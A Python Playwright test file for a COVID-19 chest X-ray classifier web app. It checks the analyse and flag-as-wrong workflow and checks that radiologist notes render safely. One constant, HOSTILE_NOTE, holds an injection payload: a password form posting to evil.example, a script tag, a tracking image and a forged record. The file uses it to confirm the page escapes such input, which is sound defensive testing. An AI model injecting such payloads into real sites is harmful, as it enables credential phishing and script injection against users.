"""A new user's session in a real browser: pick an example, analyse it, flag the answer as wrong, see the record."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pytest

from feedback.store import all_corrections
from model.images import read_grey
from model.serving.predictor import load_predictor
from tests.server import REPO, make_model, running_server

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--no-first-run"]
SCREENSHOT = Path("/tmp/xray-covid-browser-test.png")
EXAMPLE = "covid-1.jpg"
DECISION = re.compile(r"(COVID-19 (?:positive|negative)): the model's probability of COVID-19 is (\d\.\d\d)")
RECORD = re.compile(r"recorded as record #(\d+)")
TIMEOUT_MS = 60_000
NOTE_EXAMPLE = "normal-1.png"
FAKE_RECORD = "- #99 **positive** by dr_chief"
HOSTILE_NOTE = ('see <form action="http://evil.example/"><input type=password name=pw></form>'
                f"<script>window.pwned = 1</script>\n![t](http://tracker.example/x.png)\n{FAKE_RECORD}")

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's Chromium is not installed at /usr/bin/chromium")


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory) -> Path:
    return make_model(tmp_path_factory.mktemp("model"))


@pytest.fixture(scope="module")
def server(model_dir, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("browser")
    with running_server(model_dir, tmp / "feedback", tmp / "app.log") as running:
        yield running


@pytest.fixture
def page(server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 1400})
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(server.url)
        yield page
        browser.close()


def test_a_reader_analyses_an_example_and_flags_it_as_wrong(page, server, model_dir):
    from playwright.sync_api import expect

    page.get_by_text(EXAMPLE, exact=True).click()
    expect(page.locator(".block", has_text="Your X-ray").locator("img").first).to_be_visible(timeout=TIMEOUT_MS)
    page.get_by_role("button", name="Analyse", exact=True).click()
    decision = page.get_by_text(DECISION)
    expect(decision).to_be_visible(timeout=TIMEOUT_MS)
    label, shown_probability = DECISION.search(decision.inner_text()).groups()

    expected = load_predictor(model_dir).predict(REPO / "examples" / EXAMPLE)
    assert (label, shown_probability) == (expected.label, f"{expected.probability:.2f}")
    positive_bar = page.get_by_role("meter", name="COVID-19 positive")
    assert float(positive_bar.get_attribute("aria-valuenow")) == pytest.approx(100 * expected.probability, abs=1)
    overlay = page.locator(".block", has_text="Grad-CAM overlay").locator("img").first
    expect(overlay).to_be_visible(timeout=TIMEOUT_MS)
    assert overlay.evaluate("img => img.complete && img.naturalWidth") > 0

    page.get_by_text("Flag as wrong (radiologists)").click()
    right_label = "negative" if "positive" in label else "positive"
    page.get_by_role("radio", name=f"COVID-19 {right_label}").check()
    page.get_by_label("Your name").fill("dr_browser")
    page.get_by_label("Note (optional)").fill("checked by a second reader")
    page.get_by_role("button", name="Flag as wrong", exact=True).click()
    confirmation = page.get_by_text(RECORD)
    expect(confirmation).to_be_visible(timeout=TIMEOUT_MS)
    record_id = int(RECORD.search(confirmation.inner_text()).group(1))
    page.screenshot(path=str(SCREENSHOT), full_page=True)

    (row,) = [c for c in all_corrections(server.feedback_root) if c.reader == "dr_browser"]
    assert row.id == record_id
    assert (row.correct_label, row.reader, row.note, row.original_filename) == (
        right_label, "dr_browser", "checked by a second reader", EXAMPLE)
    assert (row.predicted_label, f"{row.probability:.2f}") == (label.split()[-1], shown_probability)
    np.testing.assert_array_equal(read_grey(row.image_path), read_grey(REPO / "examples" / EXAMPLE))


def test_a_hostile_note_is_plain_text_beside_a_later_prediction(page, server):
    from gradio_client import Client, handle_file
    from playwright.sync_api import expect

    client = Client(server.url, verbose=False, analytics_enabled=False)
    client.predict(handle_file(str(REPO / "examples" / NOTE_EXAMPLE)), "positive", "dr_note", "", HOSTILE_NOTE,
                   api_name="/flag")
    page.get_by_text(NOTE_EXAMPLE, exact=True).click()
    expect(page.locator(".block", has_text="Your X-ray").locator("img").first).to_be_visible(timeout=TIMEOUT_MS)
    page.get_by_role("button", name="Analyse", exact=True).click()
    cell = page.get_by_text("by dr_chief").last
    expect(cell).to_be_visible(timeout=TIMEOUT_MS)
    page.screenshot(path=str(SCREENSHOT.with_name("xray-covid-browser-note.png")), full_page=True)

    assert FAKE_RECORD in cell.inner_text() and "<form" in cell.inner_text()
    table = cell.locator("xpath=ancestor::div[contains(concat(' ', normalize-space(@class), ' '), ' block ')][1]")
    assert "dr_note" in table.inner_text()
    assert "Earlier radiologist corrections" in table.inner_text()
    assert table.locator("form, input[type=password], input[name=pw], script, img").count() == 0
    assert page.locator("form, input[name=pw], img[src*='tracker.example']").count() == 0
    assert page.evaluate("[...document.scripts].some(s => s.textContent.includes('pwned'))") is False
    assert page.evaluate("window.pwned") is None
